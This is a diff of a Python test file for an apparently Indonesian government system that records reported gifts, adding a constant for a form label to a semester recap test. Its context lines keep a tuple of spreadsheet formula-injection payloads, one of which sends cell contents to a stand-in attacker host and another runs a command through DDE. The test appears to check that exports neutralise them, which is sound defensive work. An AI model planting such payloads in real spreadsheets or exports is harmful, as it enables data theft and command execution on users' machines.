@@ -24,6 +24,8 @@ from tests.kpk.helpers import Item, ReportSpec, ensure_unit, make_report
 
 HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1)")
 
+RELATED_PARTY = "Pihak terkait tugas (penyedia barang/jasa, penerima layanan, pihak yang diawasi/diperiksa)"  # the form's label, in Indonesian
+
 
 def test_semesters_are_january_to_june_and_july_to_december():
     first, second = Semester(2026, 1), Semester(2026, 2)
@@ -64,16 +66,16 @@ def test_recap_lists_each_object_of_the_semester_by_opd_with_forwarding_and_sk(u
     assert len(RECAP_HEADER) == len(rows[0]) == 18
     assert rows == [
         ("DINKES", "Dinas Kesehatan", "GRT-2026-000002", "Laporan penolakan (pemberian ditolak)", date(2025, 12, 29),
-         date(2026, 1, 2), "Terkait tugas pelayanan", "Pihak terkait tugas (penyedia, penerima layanan, pengawasan)",
-         1, "Voucher", 500_000, "Disimpan pelapor", "Penolakan dicatat", None, None, None, None, None),
+         date(2026, 1, 2), "Terkait tugas pelayanan", RELATED_PARTY, 1, "Voucher", 500_000, "Disimpan pelapor",
+         "Penolakan dicatat", None, None, None, None, None),
         ("DPMPTSP", "Dinas Penanaman Modal dan PTSP", "GRT-2026-000001", "Laporan penerimaan (pemberian telah diterima)",
          date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
-         "Pihak terkait tugas (penyedia, penerima layanan, pengawasan)", 1, "Uang atau setara uang", 1_500_000,
+         RELATED_PARTY, 1, "Uang atau setara uang", 1_500_000,
          "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
          date(2026, 7, 30), "Milik negara"),
         ("DPMPTSP", "Dinas Penanaman Modal dan PTSP", "GRT-2026-000001", "Laporan penerimaan (pemberian telah diterima)",
          date(2026, 2, 20), date(2026, 6, 30), "Terkait tugas pelayanan",
-         "Pihak terkait tugas (penyedia, penerima layanan, pengawasan)", 2, "Barang", 2_750_000,
+         RELATED_PARTY, 2, "Barang", 2_750_000,
          "Disimpan pelapor", "Ditetapkan milik negara", "GOL-UPG/2026/00417", date(2026, 7, 2), "SK-88/2026",
          date(2026, 7, 30), "Milik negara"),
     ]
